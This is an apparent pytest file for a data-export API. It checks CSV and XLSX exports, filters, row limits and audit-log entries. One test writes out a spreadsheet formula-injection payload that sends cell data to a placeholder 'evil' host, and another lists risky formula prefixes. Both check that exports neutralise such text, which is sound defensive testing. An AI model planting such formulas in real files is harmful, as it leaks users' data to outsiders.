"""Lists as files: the rows and masks of the list, cells that no spreadsheet runs, a line in the audit log."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook

from lineshaft.api.sheets import in_csv, in_workbook
from lineshaft.base.ids import encode_id
from lineshaft.store import writes as w
from support import store_rows as a
from support.store_rows import unit

from .conftest import Answer, Client


def rows_of(answer: Answer) -> list[list[Any]]:
    """Return the cells of a file of either kind, without its headings."""
    assert answer.status == 200, answer.content
    if answer.content.startswith(b"PK"):
        sheet = load_workbook(io.BytesIO(answer.content)).active
        assert sheet is not None
        assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n", "inlineStr"}
        return [list(row) for row in sheet.iter_rows(min_row=2, values_only=True)]
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))[1:]


async def put(api: Client, *rows: Any) -> None:
    [result] = await api.hub.store.commit([unit(*rows)])
    assert result.status == "written", result


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
async def test_list_is_exported_as_it_is_filtered(api: Client, kind: str) -> None:
    await put(
        api,
        *(w.InsertInstance(a.instance(f"i{number}", business_key=f"SO-{number}")) for number in range(3)),
        w.InsertInstance(a.instance("done", business_key="SO-9", status="completed", ended_at=a.T0)),
    )
    found = rows_of(await api("GET", f"/api/v1/exports/instances?format={kind}&status=active"))
    assert {row[0] for row in found} == {"SO-0", "SO-1", "SO-2"}
    [one] = rows_of(await api("GET", f"/api/v1/exports/instances?format={kind}&number=SO-1"))
    assert one[0] == "SO-1"
    noted = (await api("GET", "/api/v1/audit?action=data.exported")).json["items"][-1]
    assert (noted["subject"], noted["detail"]["rows"]) == ("instances", 3)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
async def test_file_that_is_not_the_whole_list_says_so_in_its_last_row(api: Client, kind: str) -> None:
    await put(
        api, *(w.InsertInstance(a.instance(f"i{number}", business_key=f"SO-{number}")) for number in range(3))
    )
    found = rows_of(await api("GET", f"/api/v1/exports/instances?format={kind}&rows_max=2"))
    assert len(found) == 3
    assert "more rows" in found[-1][0]


async def test_text_that_looks_like_a_formula_stays_a_text(api: Client) -> None:
    evil = '=HYPERLINK("http://evil/?"&A1)'
    await put(api, w.InsertInstance(a.instance("i1", business_key=evil)))
    assert rows_of(await api("GET", "/api/v1/exports/instances?format=csv"))[0][0] == f"'{evil}"
    assert rows_of(await api("GET", "/api/v1/exports/instances?format=xlsx"))[0][0] == evil


@pytest.mark.parametrize("text", ["=1", "+1+1", "-cmd", "@SUM(A1)", "\t=1", "  =1", "\r=1", "|x", "%x"])
def test_risky_text_gets_an_apostrophe_in_csv(text: str) -> None:
    assert in_csv(text) == f"'{text}"


def test_numbers_stay_numbers_and_lose_no_digit() -> None:
    assert in_csv(Decimal("-12.50")) == "-12.50"
    assert in_csv("-12.50") == "-12.50"
    assert in_workbook(Decimal("12.50")) == Decimal("12.50")
    assert in_workbook(6222020200112233445) == "6222020200112233445"


async def test_unknown_filter_exports_nothing(api: Client) -> None:
    answer = await api("GET", "/api/v1/exports/instances?statu=active")
    assert (answer.status, answer.json["code"]) == (400, "filter_unknown")


@pytest.mark.parametrize("name", ["instances", "dead-letters", "effects", "orders", "audit"])
async def test_every_list_has_both_kinds(api: Client, name: str) -> None:
    for kind in ("csv", "xlsx"):
        rows_of(await api("GET", f"/api/v1/exports/{name}?format={kind}"))


async def test_audit_names_the_document_where_the_log_holds_only_an_id(api: Client) -> None:
    identity = encode_id(1, 1)
    await put(api, w.InsertInstance(a.instance(identity, business_key="SO-1")))
    await api("POST", f"/api/v1/instances/{identity}/cancel", {"reason": "ordered twice"})
    line = (await api("GET", f"/api/v1/audit?subject={identity}")).json["items"][0]
    assert (line["subject"], line["name"]) == (identity, "SO-1")
    # Why, too: an auditor who has to ask for it in another place asks nobody.
    assert line["detail"] == {"reason": "ordered twice"}
    [row, *_] = rows_of(await api("GET", f"/api/v1/exports/audit?format=csv&subject={identity}"))
    assert {"SO-1", identity} <= set(row)
